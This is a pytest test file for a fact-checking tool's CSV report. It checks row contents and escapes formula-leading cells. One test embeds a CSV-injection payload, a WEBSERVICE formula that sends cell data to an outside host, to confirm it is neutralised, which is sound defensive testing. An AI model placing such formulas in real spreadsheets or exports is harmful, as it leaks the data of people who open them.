import csv
import io

import pytest

from factcheck.model.article import Role
from factcheck.model.claim import ClaimKind, Priority
from factcheck.model.evidence import Stance
from factcheck.model.verdict import Rating
from factcheck.report.as_csv import COLUMNS, as_text, render_csv
from tests.makers import CHECKER, do, make_case, make_claim, make_source, rated
from tests.unit.report.occasions import make_occasion


def rows(table: str) -> list[dict[str, str]]:
    assert table.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(table.removeprefix("\ufeff"), newline="")))


def test_one_row_a_claim_tells_all_of_it() -> None:
    kinds = (ClaimKind.QUANTITY, ClaimKind.DATE_TIME)
    claim = make_claim(
        "14,000 cars a day", kinds=kinds, priority=Priority.HIGH, question="Counted when?"
    )
    case = make_case(claims=[make_claim("nine weeks"), claim])
    rated(case, claim, Rating.VERIFIED)
    do(
        case,
        case.attach(claim.id, make_source(), CHECKER, Stance.SUPPORTS, "page 4", "14,012"),
        case.attach(claim.id, make_source("A driver", id="other"), CHECKER),
        case.write_note(claim.id, "Counted in May,\nnot all year.", CHECKER),
    )
    first, second = rows(render_csv(case, make_occasion()))
    assert first["number"] == "1"
    assert first["state"] == "not checked"
    assert first["part"] == "Headline"
    assert second == {
        "number": "2",
        "state": "verified",
        "claim": "14,000 cars a day",
        "kinds": "figure, date or time",
        "priority": "high",
        "question": "Counted when?",
        "sources": "Register of bridges | supports | primary | page 4 | “14,012”\n"
        "A driver | supports | primary | no locator",
        "note": "Counted in May,\nnot all year.",
        "checker": "Ada Checker",
        "decided": "2026-03-04T09:30:00+01:00",
        "waiting for": "",
        "part": "Paragraph 1",
        "start": str(claim.position.start),
        "end": str(claim.position.end),
        "finding": "",
        "proposal": "",
        "answer": "",
        "decision": "",
        "waits": "",
        "until": "",
    }


def test_a_case_without_claims_is_a_table_without_rows() -> None:
    table = render_csv(make_case(), make_occasion())
    assert rows(table) == []
    assert table == "\ufeff" + ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "  ="])
def test_no_cell_is_a_formula(start: str) -> None:
    assert as_text([f"{start}HYPERLINK(1)", "plain", "12"]) == [
        f"'{start}HYPERLINK(1)",
        "plain",
        "12",
    ]


def test_words_of_an_article_cannot_become_a_formula() -> None:
    text = '=WEBSERVICE("http://example.org/"&A1) was in the text'
    claim = make_claim(text, of=text)
    case = make_case(text, [Role.BODY], [claim])
    do(case, case.write_note(claim.id, "@SUM(A1:A9)", CHECKER))
    row = rows(render_csv(case, make_occasion()))[0]
    assert row["claim"] == f"'{text}"
    assert row["note"] == "'@SUM(A1:A9)"
